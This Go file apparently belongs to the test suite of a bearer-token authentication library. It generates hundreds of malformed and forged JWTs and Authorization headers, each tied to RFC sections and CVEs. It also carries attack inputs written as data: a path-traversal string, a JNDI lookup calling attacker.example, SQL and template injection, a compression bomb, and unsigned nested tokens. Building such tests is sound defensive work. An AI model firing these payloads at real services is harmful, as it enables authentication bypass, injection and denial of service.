package attack

import (
	"bytes"
	"compress/flate"
	"crypto/aes"
	"crypto/cipher"
	"encoding/base64"
	"net/http"
	"strings"
	"unicode/utf16"

	"github.com/mcpauth-go/mcpauth/internal/tokentest"
)

const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"

// uneven puts spaces into an object until its encoding ends in a character
// with spare bits.
func uneven(object string) string {
	for len(object)%3 == 0 {
		object = "{ " + object[1:]
	}
	return object
}

// spare sets a spare bit of the last character, where it has some.
func spare(segment string) string {
	last := len(segment) - 1
	return segment[:last] + string(alphabet[strings.IndexByte(alphabet, segment[last])|1])
}

var standardAlphabet = strings.NewReplacer("-", "+", "_", "/")

// base64 writes good tokens in spellings that lenient decoders take, so that
// one token has many, and a list of revoked ones or a cache knows one.
func (g *generator) base64() {
	const (
		twin   = "another spelling of a good token: base64url has neither padding nor line breaks here (RFC 7515, section 2), and one spelling of its last bits (RFC 4648, section 3.5); CVE-2022-25898 (jsrsasign)"
		signed = "the same, signed as it stands"
	)
	for _, s := range g.signers() {
		good := s.good()
		segments := strings.Split(good, ".")
		change := func(i int, to string) string {
			changed := append([]string(nil), segments...)
			changed[i] = to
			return strings.Join(changed, ".")
		}
		g.add("= after "+s.label(), good+"=", twin)
		g.add("== after "+s.label(), good+"==", twin)
		g.add("line feed after "+s.label(), good+"\n", twin)
		g.add("NUL after "+s.label(), good+"\x00", twin)
		g.add("another character after "+s.label(), good+"A", twin)
		if n := len(segments[2]); n%4 != 0 {
			g.add("spare bit of the signature of "+s.label(), change(2, spare(segments[2])), twin)
		}
		if other := standardAlphabet.Replace(good); other != good {
			g.add("standard alphabet of "+s.label(), other, twin)
		}
	}
	s := g.pick()
	good := s.good()
	segments := strings.Split(good, ".")
	for i, part := range []string{"header", "payload", "signature"} {
		half := len(segments[i]) / 2
		for _, c := range []struct{ name, text string }{
			{"space", " "}, {"tab", "\t"}, {"line feed", "\n"}, {"CR LF", "\r\n"}, {"vertical tab", "\v"}, {"NUL", "\x00"}, {"DEL", "\x7f"}, {"=", "="}, {"%", "%"}, {"%20", "%20"}, {"*", "*"}, {"quotation mark", `"`}, {"backslash", `\`},
			{"no-break space", "\u00a0"}, {"zero-width space", "\u200b"}, {"soft hyphen", "\u00ad"}, {"byte order mark", "\ufeff"}, {"right-to-left override", "\u202e"}, {"no UTF-8", "\xff"}, {"high bit", "\xc1"},
		} {
			changed := append([]string(nil), segments...)
			changed[i] = segments[i][:half] + c.text + segments[i][half:]
			g.add(c.name+" in the "+part, strings.Join(changed, "."), twin)
		}
		g.add("= after the "+part, strings.Join(append(append(append([]string(nil), segments[:i]...), segments[i]+"="), segments[i+1:]...), "."), twin)
	}
	for _, c := range []struct{ name, old, new string }{
		{"%2E for dots", ".", "%2E"}, {"full-width dots", ".", "．"}, {"one dot leader", ".", "․"}, {"middle dots", ".", "·"}, {"commas", ".", ","}, {"colons", ".", ":"}, {"tildes", ".", "~"}, {"dots with spaces", ".", " . "}, {"two dots", ".", ".."},
		{"Cyrillic е", "e", "е"}, {"full-width e", "e", "ｅ"}, {"%65 for e", "e", "%65"}, {`\u0065 for e`, "e", `\u0065`}, {"&#101; for e", "e", "&#101;"}, {"+ for e", "e", "+"},
	} {
		g.add(c.name, strings.ReplaceAll(good, c.old, c.new), twin)
	}
	g.add("in quotation marks", `"`+good+`"`, twin)
	g.add("in angle brackets", "<"+good+">", twin)
	g.add("in base64", base64.StdEncoding.EncodeToString([]byte(good)), twin)
	g.add("in base64url", tokentest.Encode(good), twin)
	g.add("in upper case", strings.ToUpper(good), twin)
	g.add("a byte order mark before", "\ufeff"+good, twin)
	g.add("a zero-width space after", good+"\u200b", twin)
	g.add("a fragment after", good+"#x", twin)
	g.add("a query after", good+"?x=1", twin)
	g.add("a semicolon after", good+";", twin)
	g.add("UTF-16", wide(good), twin)

	// What a good key signs as it stands.
	header, payload := uneven(s.header()), uneven(s.claims("x", `"???>>>~~~"`))
	for payload = uneven(payload); !strings.ContainsAny(tokentest.Encode(payload), "-_"); payload = uneven("{ " + payload[1:]) {
	}
	h, p := tokentest.Encode(header), tokentest.Encode(payload)
	for _, v := range []struct{ name, header, payload string }{
		{"spare bit of the header", spare(h), p}, {"spare bit of the payload", h, spare(p)}, {"padding of the header", h + strings.Repeat("=", 4-len(h)%4), p}, {"padding of the payload", h, p + strings.Repeat("=", 4-len(p)%4)},
		{"standard alphabet of the payload", h, standardAlphabet.Replace(p)}, {"line breaks every 76 characters", wrap(h), wrap(p)}, {"a line feed in the header", h[:4] + "\n" + h[4:], p}, {"a CR in the payload", h, p[:4] + "\r" + p[4:]},
		{"more before the header", "7b7d" + h, p}, {"a bare header", header, p}, {"a bare payload", h, payload}, {"an odd character after the payload", h, p + strings.Repeat("A", (5-len(p)%4)%4)},
	} {
		g.add(v.name+", signed", signText(s.key, v.header, v.payload), signed)
	}
}

func wrap(s string) string {
	text := ""
	for len(s) > 76 {
		text, s = text+s[:76]+"\n", s[76:]
	}
	return text + s + "\n"
}

func wide(s string) string {
	var b []byte
	for _, c := range utf16.Encode([]rune(s)) {
		b = append(b, byte(c), byte(c>>8))
	}
	return string(b)
}

func (g *generator) segments() {
	const why = "compact serialization has three segments (RFC 7515, section 7.1): CVE-2022-39227 (python-jwt), CVE-2025-27144 (go-jose), CVE-2025-30204 (golang-jwt)"
	s := g.pick()
	good := s.good()
	parts := strings.Split(good, ".")
	h, p, sig := parts[0], parts[1], parts[2]
	for _, v := range []struct{ name, text string }{
		{"one", h}, {"one, of letters", strings.Repeat("A", 200)}, {"two", h + "." + p}, {"two, payload and signature", p + "." + sig}, {"four", good + "." + sig}, {"four, the last empty", good + "."}, {"four, the first empty", "." + good}, {"five", good + "." + sig + "." + sig},
		{"six", good + "." + good}, {"header missing", "." + p + "." + sig}, {"payload missing", h + ".." + sig}, {"signature missing", h + "." + p + "."}, {"header alone", h + ".."}, {"payload alone", "." + p + "."}, {"only dots", ".."}, {"one dot", "."},
		{"many dots", strings.Repeat(".", min(g.target.MaxTokenSize, 16<<10)-16)}, {"many dots after it", good + strings.Repeat(".", 8000)}, {"many short segments", strings.Repeat("a.", 7000)}, {"twice", good + good}, {"SD-JWT", good + "~"}, {"SD-JWT with a disclosure", good + "~WyJhIiwiYiIsImMiXQ~"},
		{"in the order of payload, header, signature", p + "." + h + "." + sig},
	} {
		g.add(v.name, v.text, why)
	}
	const json = "only the compact form is a bearer token (RFC 7519, section 3): a JSON form has unprotected headers and several signatures"
	for _, v := range []struct{ name, text string }{
		{"flattened JSON", `{"payload":"` + p + `","protected":"` + h + `","signature":"` + sig + `"}`},
		{"flattened JSON with a header that is not protected", `{"payload":"` + p + `","protected":"` + h + `","header":{"kid":"x"},"signature":"` + sig + `"}`},
		{"general JSON", `{"payload":"` + p + `","signatures":[{"protected":"` + h + `","signature":"` + sig + `"}]}`},
		{"general JSON without signatures", `{"payload":"` + p + `","signatures":[]}`},
		{"general JSON, a good and a bad signature", `{"payload":"` + p + `","signatures":[{"protected":"` + h + `","signature":"AAAA"},{"protected":"` + h + `","signature":"` + sig + `"}]}`},
		{"both forms at once", `{"` + h + `.` + tokentest.Encode(s.claims()) + `.":"","payload":"` + p + `","protected":"` + h + `","signature":"` + sig + `"}`},
		{"JSON in base64url", tokentest.Encode(`{"payload":"` + p + `","protected":"` + h + `","signature":"` + sig + `"}`)},
		{"a JSON string", `"` + good + `"`},
		{"a JSON array", `["` + good + `"]`},
	} {
		g.add(v.name, v.text, json)
	}
	g.add("detached payload", h+".."+sig, "RFC 7515, appendix F: the payload comes otherwise")
	g.add("a token in a token", signText(s.key, tokentest.Encode(s.header("cty", `"JWT"`)), tokentest.Encode(good)), "a nested token (RFC 7519, section 5.2), whose inside nobody has looked at")
	g.add("an unsecured token in a token", signText(s.key, tokentest.Encode(s.header("cty", `"JWT"`)), tokentest.Encode(tokentest.Encode(`{"alg":"none"}`)+"."+p+".")), "a nested token, whose inside is not signed: CVE-2026-29000 (pac4j)")
}

// jwe encrypts, which proves nothing of who wrote it.
func (g *generator) jwe() {
	const why = "whoever has the public key can encrypt (RFC 8725, section 2.5): CVE-2022-3102 (jwcrypto), CVE-2023-51774 (json-jwt), CVE-2026-29000 (pac4j); and costs that the header names: CVE-2022-36083 (jose), CVE-2023-52428 (Nimbus), CVE-2024-28180 (go-jose), CVE-2024-33664 (python-jose)"
	s := g.pick()
	random := func(n int) string { return tokentest.Encode(string(g.bytes(n))) }
	for _, header := range []string{
		`{"alg":"dir","enc":"A256GCM"}`, `{"alg":"RSA-OAEP","enc":"A256GCM"}`, `{"alg":"RSA-OAEP-256","enc":"A256GCM","cty":"JWT"}`, `{"alg":"RSA1_5","enc":"A128CBC-HS256"}`, `{"alg":"ECDH-ES","enc":"A256GCM","epk":{"kty":"EC","crv":"P-256","x":"AA","y":"AA"}}`,
		`{"alg":"A256KW","enc":"A256GCM"}`, `{"alg":"PBES2-HS256+A128KW","enc":"A128GCM","p2c":2147483647,"p2s":"AAAAAAAAAAA"}`, `{"alg":"dir","enc":"A256GCM","zip":"DEF"}`, `{"alg":"none","enc":"none"}`, s.header("enc", `"A256GCM"`),
	} {
		encoded := tokentest.Encode(header)
		g.add("five segments "+header, encoded+"."+random(32)+"."+random(12)+"."+random(300)+"."+random(16), why)
		g.add("three segments "+header, signText(s.key, encoded, tokentest.Encode(s.claims())), why)
	}
	// Really encrypted, with the shared secret where there is one.
	for _, s := range append(g.signers("HS"), signer{g, s.issuer, s.index, attacker("HS256", "")}) {
		secret := s.key.Private.([]byte)[:32]
		gcm := must(cipher.NewGCM(must(aes.NewCipher(secret))))
		for _, inner := range []struct{ name, text string }{{"claims", s.claims()}, {"an unsecured token", tokentest.Encode(`{"alg":"none"}`) + "." + tokentest.Encode(s.claims()) + "."}} {
			header, nonce := tokentest.Encode(`{"alg":"dir","enc":"A256GCM","kid":`+quote(s.key.ID)+`}`), g.bytes(12)
			sealed := gcm.Seal(nil, nonce, []byte(inner.text), []byte(header))
			text, tag := sealed[:len(sealed)-16], sealed[len(sealed)-16:]
			g.add("encrypted "+inner.name+" with the secret of "+s.label(), strings.Join([]string{header, "", tokentest.Encode(string(nonce)), tokentest.Encode(string(text)), tokentest.Encode(string(tag))}, "."), why)
		}
	}
}

// spoilt is an object in a form that some JSON parser takes, and that is no
// JSON object, or whose meaning depends on the parser.
func spoilt(object string) []struct{ name, text string } {
	with := func(members string) string { return tokentest.With(object, members) }
	inner := object[1 : len(object)-1]
	return []struct{ name, text string }{
		{"empty", ""}, {"null", "null"}, {"true", "true"}, {"a number", "1"}, {"a string", quote(object)}, {"an array", "[" + object + "]"}, {"an empty array", "[]"}, {"letters", "victim"}, {"no end", object[:len(object)-1]}, {"no begin", object[1:]},
		{"a letter after", object + "x"}, {"a NUL after", object + "\x00"}, {"a brace after", object + "}"}, {"two objects", object + object}, {"two objects, with a line feed", object + "\n" + object}, {"a comma after", object + ","}, {"a comma before the end", "{" + inner + ",}"}, {"a comma first", "{," + inner + "}"},
		{"byte order mark", "\ufeff" + object}, {"UTF-16", wide(object)}, {"no-break space before", "\u00a0" + object}, {"vertical tab before", "\v" + object}, {"a comment", "/**/" + object}, {"a comment inside", with(`/*x*/"x":1`)}, {"a line comment", object + "//x"}, {"single quotes", strings.ReplaceAll(object, `"`, "'")},
		{"a name without quotes", with("x:1")}, {"NaN", with(`"x":NaN`)}, {"Infinity", with(`"x":-Infinity`)}, {"undefined", with(`"x":undefined`)}, {"hexadecimal", with(`"x":0x10`)}, {"a leading zero", with(`"x":01`)}, {"a plus", with(`"x":+1`)}, {"a bare point", with(`"x":.5`)}, {"a point at the end", with(`"x":1.`)}, {"True", with(`"x":True`)},
		{"invalid UTF-8", with("\"x\":\"\xff\"")}, {"invalid UTF-8 in a name", with("\"\xff\":1")}, {"overlong UTF-8", with("\"x\":\"\xc0\xae\"")}, {"a surrogate in UTF-8", with("\"x\":\"\xed\xa0\x80\"")}, {"half a surrogate pair", with(`"x":"\ud800"`)}, {"half a surrogate pair in a name", with(`"\udc00":1`)},
		{"an unknown escape", with(`"x":"\x41"`)}, {"a line feed in a string", with("\"x\":\"\n\"")}, {"a NUL in a string", with("\"x\":\"\x00\"")}, {"no value", with(`"x":`)}, {"no colon", with(`"x" 1`)}, {"an equals sign", with(`"x"=1`)}, {"an open string", with(`"x":"`)},
		{"deep", with(`"x":` + tokentest.Deep(100))}, {"very deep", with(`"x":` + tokentest.Deep(3000))}, {"deep and open", with(`"x":` + strings.Repeat("[", 5000))}, {"deep objects", with(`"x":` + strings.Repeat(`{"x":`, 1000) + "1" + strings.Repeat("}", 1000))},
	}
}

func (g *generator) headerJSON() {
	for i, v := range spoilt(g.pick().header()) {
		s := g.pick()
		g.add(v.name, s.sign(spoilt(s.header())[i].text, s.claims()), "the header is one JSON object and nothing else (RFC 7515, section 5.2); CVE-2019-17195 (Nimbus)")
	}
	for _, s := range g.signers() {
		g.add("ALG for "+s.label(), s.sign(s.header("alg", "", "ALG", quote(s.key.Algorithm)), s.claims()), "names are compared with case (RFC 7515, section 4)")
		g.add("deflated claims by "+s.label(), s.sign(s.header("zip", `"DEF"`), deflated(s.claims())), "zip is for JWE alone (RFC 7516, section 4.1.3)")
	}
	s := g.pick()
	g.add("a compression bomb", s.sign(s.header("zip", `"DEF"`), deflated(s.claims("x", quote(strings.Repeat("A", 4<<20))))), "4 MiB in 4 KiB: CVE-2024-28180 (go-jose), CVE-2024-33664 (python-jose), CVE-2025-62706 (Authlib)")
	many := manyNames(g.target.MaxTokenSize - 2048)
	g.add("many names", sign(attacker(s.key.Algorithm, ""), tokentest.With(s.header(), many), s.claims()), "work and memory for each name, before the signature is known")
	g.add("many objects", sign(attacker(s.key.Algorithm, ""), tokentest.With(s.header(), `"x":[`+strings.TrimSuffix(strings.Repeat("{"+manyNames(870)+"},", (g.target.MaxTokenSize-2048)*3/4/630), ",")+`]`), s.claims()), "work and memory for each name, in many objects")
	g.add("many values", sign(attacker(s.key.Algorithm, ""), tokentest.With(s.header(), `"x":[`+strings.TrimSuffix(strings.Repeat("{},", 2500), ",")+`]`), s.claims()), "work and memory for each value, before the signature is known")
	g.add("escapes", sign(attacker(s.key.Algorithm, ""), tokentest.With(s.header(), `"x":"`+strings.Repeat(`\u0000`, 1200)+`"`), s.claims()), "work and memory for each escape, before the signature is known")
	g.add("a huge number", sign(attacker(s.key.Algorithm, ""), tokentest.With(s.header(), `"x":`+strings.Repeat("9", 7000)), s.claims()), "numbers without bound cost quadratic time in some parsers: CVE-2020-10735 (Python)")
}

// manyNames returns members of about that many bytes once encoded.
func manyNames(encoded int) string {
	var b strings.Builder
	for i := 0; b.Len() < encoded*3/4-40; i++ {
		b.WriteString(`,"` + string(alphabet[i%64]) + string(alphabet[i/64%64]) + string(alphabet[i/4096]) + `":0`)
	}
	return b.String()[1:]
}

func deflated(s string) string {
	var b bytes.Buffer
	w := must(flate.NewWriter(&b, flate.BestCompression))
	must(w.Write([]byte(s)))
	if err := w.Close(); err != nil {
		panic("attack: " + err.Error())
	}
	return b.String()
}

func (g *generator) claimsJSON() {
	for i, v := range spoilt(g.pick().claims()) {
		s := g.pick()
		g.add(v.name, s.sign(s.header(), spoilt(s.claims())[i].text), "the claims are one JSON object and nothing else (RFC 7519, section 7.2)")
	}
	s := g.pick()
	stranger := attacker(s.key.Algorithm, s.key.ID)
	many := manyNames(g.target.MaxTokenSize - 2048)
	g.add("many names, by a stranger", sign(stranger, s.header(), tokentest.With(s.claims(), many)), "work and memory for each name, before the signature is known")
	g.add("many names before iss, by a stranger", sign(stranger, s.header(), "{"+many+","+s.claims()[1:]), "work and memory for each name, before the issuer is known")
	g.add("a huge number, by a stranger", sign(stranger, s.header(), tokentest.With(s.claims(), `"x":`+strings.Repeat("9", 7000))), "numbers without bound")
	g.add("many names, and one twice", s.sign(s.header(), tokentest.With(s.claims(), many+`,"AAA":1`)), "a duplicate among many")
}

func (g *generator) size() {
	limit := g.target.MaxTokenSize
	const why = "a token has bounds: what it costs is not the sender's to choose; CVE-2025-61920 (Authlib)"
	for _, s := range g.signers() {
		g.add("one byte over the limit by "+s.label(), exactly(limit+1, func(fill string) string { return s.sign(s.header(), s.claimsAs("size", "x", quote(fill))) }), why)
	}
	s := g.pick()
	g.add("a long header", s.sign(s.header("x", quote(strings.Repeat("x", limit))), s.claims()), why)
	g.add("a long kid", s.sign(s.header("kid", quote(strings.Repeat("x", limit))), s.claims()), why)
	g.add("a long payload", s.sign(s.header(), s.claims("x", quote(strings.Repeat("x", 8*limit)))), why)
	g.add("a long user id", s.sign(s.header(), s.claims(s.issuer.UserIDClaim, quote(strings.Repeat("x", limit)))), why)
	g.add("a long signature", s.good()+strings.Repeat("A", limit), why)
	g.add("letters", strings.Repeat("A", 4*limit), why)
	g.add("dots", strings.Repeat(".", 4*limit), why)
	g.add("very deep claims", s.sign(s.header(), tokentest.With(s.claims(), `"x":`+tokentest.Deep(limit))), why)
}

// exactly returns a token of n bytes or, where no fill makes one of n, one
// more.
func exactly(n int, token func(fill string) string) string {
	fill := (n - len(token("")) - 8) * 3 / 4
	for {
		if text := token(strings.Repeat("x", fill)); len(text) >= n {
			return text
		}
		fill++
	}
}

func (g *generator) notAJWT() {
	for _, v := range []struct{ name, text string }{
		{"a GUID", "3f2504e0-4f89-11d3-9a0c-0305e82c3301"}, {"an opaque token", "mF_9.B5f-4.1JqM"}, {"PASETO", "v2.local.QAxIpVe-ECVNI1z4xQbm_qQYomyT3h8FtV8bxkz8pBJWkT8f7HtlOpbroPDEZUKop_vaglyp76CzYy375cHmKCW8e1CCkV0Lflu4GTDyXMqQdpZMM1E6OaoQW27gaRSvWBrR3IgbFIa0AkuUFw"},
		{"PASETO public", "v4.public.eyJkYXRhIjoiIn1AAAA"}, {"a GitHub token", "ghp_" + strings.Repeat("a", 36)}, {"SAML", "PHNhbWxwOlJlc3BvbnNlIHhtbG5zOnNhbWxwPSJ1cm4iLz4="}, {"XML", "<saml:Assertion/>"}, {"HTML", "<script>alert(1)</script>"}, {"a word", "null"}, {"undefined", "undefined"}, {"true", "true"}, {"[object Object]", "[object_Object]"},
		{"a URL", "https://attacker.example/token"}, {"an URI of data", "data:application/jwt;base64,e30"}, {"Kerberos", "YIIJvwYGKwYBBQUCoIIJszCCCa+gJDAi"}, {"a path", "../../../../etc/passwd"}, {"a template", "{{config}}"}, {"a JNDI name", "${jndi:ldap://attacker.example/a}"}, {"SQL", "'OR'1'='1"},
		{"NULs", strings.Repeat("\x00", 64)}, {"bytes", string([]byte{0xff, 0xfe, 0x2e, 0x00, 0x2e, 0x80})}, {"empty objects", "e30.e30.e30"}, {"empty objects, no signature", "e30.e30."}, {"a JWK", `{"kty":"oct","k":"AA"}`}, {"one character", "e"}, {"format verbs", "%s%n%x%d"}, {"emoji", "🔑.🔑.🔑"},
	} {
		g.add(v.name, v.text, "what else comes as a bearer token")
	}
}

// authorization has good tokens in headers that are not as RFC 6750 says, and
// bad ones in such that are.
func (g *generator) authorization() {
	s := g.pick()
	good, other := s.good(), s.sign(s.header(), s.claims())
	header, rest, _ := strings.Cut(good, ".")
	bad := header + "." + rest[:len(rest)-8] + "AAAAAAAA"
	const (
		two   = "two readers take two of them for the one (RFC 9110, section 5.3)"
		form  = "the form is the scheme, spaces and one token (RFC 6750, section 2.1)"
		place = "a token is looked for in one place only (RFC 6750, section 2; MCP forbids it in the URL)"
		name  = "the scheme has no case (RFC 9110, section 11.1), and it makes no token good"
	)
	for _, v := range []struct {
		name   string
		values []string
		why    string
	}{
		{"two headers", []string{"Bearer " + good, "Bearer " + other}, two}, {"the same twice", []string{"Bearer " + good, "Bearer " + good}, two}, {"a good one, a bad one", []string{"Bearer " + good, "Bearer " + bad}, two}, {"a bad one, a good one", []string{"Bearer " + bad, "Bearer " + good}, two},
		{"Basic, then a good one", []string{"Basic dmljdGltOng=", "Bearer " + good}, two}, {"a good one, then Basic", []string{"Bearer " + good, "Basic dmljdGltOng="}, two}, {"an empty one, then a good one", []string{"", "Bearer " + good}, two}, {"a good one, then an empty one", []string{"Bearer " + good, ""}, two},
		{"joined by a comma", []string{"Bearer " + good + ", Bearer " + other}, two}, {"joined by a comma without space", []string{"Bearer " + good + ",Bearer " + other}, two}, {"two tokens with a comma", []string{"Bearer " + good + "," + other}, two}, {"two tokens with a space", []string{"Bearer " + good + " " + other}, two},
		{"a comma after", []string{"Bearer " + good + ","}, two}, {"a comma before", []string{",Bearer " + good}, two}, {"three headers", []string{"Bearer " + good, "Bearer " + good, "Bearer " + good}, two}, {"Basic joined", []string{"Basic dmljdGltOng=, Bearer " + good}, two},

		{"Bearer twice", []string{"Bearer Bearer " + good}, form}, {"a tab after the scheme", []string{"Bearer\t" + good}, form}, {"a space and a tab", []string{"Bearer \t" + good}, form}, {"a tab in the token", []string{"Bearer " + good[:20] + "\t" + good[20:]}, form}, {"no space", []string{"Bearer" + good}, form},
		{"a colon", []string{"Bearer: " + good}, form}, {"an equals sign", []string{"Bearer=" + good}, form}, {"an equals sign and a space", []string{"Bearer =" + good}, form}, {"a parameter", []string{"Bearer token=" + good}, form}, {"a quoted parameter", []string{`Bearer token="` + good + `"`}, form}, {"quotation marks", []string{`Bearer "` + good + `"`}, form},
		{"the scheme alone", []string{"Bearer"}, form}, {"the scheme and a space", []string{"Bearer "}, form}, {"the token alone", []string{good}, form}, {"the token as the scheme", []string{good + " Bearer"}, form}, {"the token as scheme and token", []string{good + " " + good}, form}, {"the scheme after the token", []string{good + ", Bearer"}, form},
		{"a no-break space", []string{"Bearer\u00a0" + good}, form}, {"a no-break space after a space", []string{"Bearer \u00a0" + good}, form}, {"a line feed", []string{"Bearer\n" + good}, form}, {"a line feed after a space", []string{"Bearer \n" + good}, form}, {"a folded line", []string{"Bearer\r\n " + good}, form}, {"a NUL", []string{"Bearer\x00" + good}, form},
		{"a parameter after", []string{"Bearer " + good + ` realm="x"`}, form}, {"a comment after", []string{"Bearer " + good + " (x)"}, form}, {"a space before", []string{" Bearer " + good}, form}, {"empty", []string{""}, form}, {"spaces", []string{"   "}, form},

		{"bearer and a bad one", []string{"bearer " + bad}, name}, {"BEARER and a bad one", []string{"BEARER " + bad}, name}, {"bEARER and a bad one", []string{"bEARER " + bad}, name}, {"Bearer, many spaces and a bad one", []string{"Bearer      " + bad}, name},
		{"Basic", []string{"Basic " + good}, name}, {"Basic with the token as password", []string{"Basic " + base64.StdEncoding.EncodeToString([]byte("victim:"+good))}, name}, {"DPoP", []string{"DPoP " + good}, name}, {"JWT", []string{"JWT " + good}, name}, {"Token", []string{"Token " + good}, name}, {"Negotiate", []string{"Negotiate " + good}, name},
		{"Digest", []string{`Digest username="` + good + `"`}, name}, {"MAC", []string{`MAC id="` + good + `"`}, name}, {"PoP", []string{"PoP " + good}, name}, {"OAuth", []string{"OAuth " + good}, name}, {"Bearer2", []string{"Bearer2 " + good}, name}, {"Beare", []string{"Beare " + good}, name}, {"XBearer", []string{"XBearer " + good}, name},
		{"Cyrillic e in Bearer", []string{"Bеarer " + good}, name}, {"full-width Bearer", []string{"Ｂｅａｒｅｒ " + good}, name}, {"Bearer with a zero-width space", []string{"Bearer\u200b " + good}, name}, {"Bearer%20", []string{"Bearer%20" + good}, name}, {"access_token=", []string{"access_token=" + good}, name},
	} {
		g.header(v.name, http.Header{"Authorization": v.values}, v.why)
	}
	for _, at := range []string{"X-Authorization", "Proxy-Authorization", "X-Forwarded-Authorization", "X-Original-Authorization", "Authorization-Bearer", "X-Access-Token", "X-Auth-Token", "Access-Token", "Token", "X-Amzn-Oidc-Data", "X-Ms-Token-Aad-Access-Token", "Cf-Access-Jwt-Assertion", "X-Goog-Iap-Jwt-Assertion", "Www-Authenticate", "Sec-Websocket-Protocol"} {
		g.header("in "+at, http.Header{at: {"Bearer " + good}}, place)
	}
	for _, user := range []string{"X-User-Id", "X-Forwarded-User", "X-Remote-User", "Remote-User", "X-Userid", "X-Authenticated-Userid"} {
		g.header("a user in "+user, http.Header{user: {"victim"}}, "who a user is says a token, not a header that anybody writes")
		g.header("a user in "+user+" and a bad token", http.Header{user: {"victim"}, "Authorization": {"Bearer " + bad}}, "who a user is says a token, not a header that anybody writes")
	}
	g.header("in a cookie", http.Header{"Cookie": {"access_token=" + good + "; Authorization=Bearer " + good}}, place)
	g.header("in a cookie, beside a bad one", http.Header{"Cookie": {"access_token=" + good}, "Authorization": {"Bearer " + bad}}, place)
	g.header("nothing", http.Header{}, "no credential at all")
}
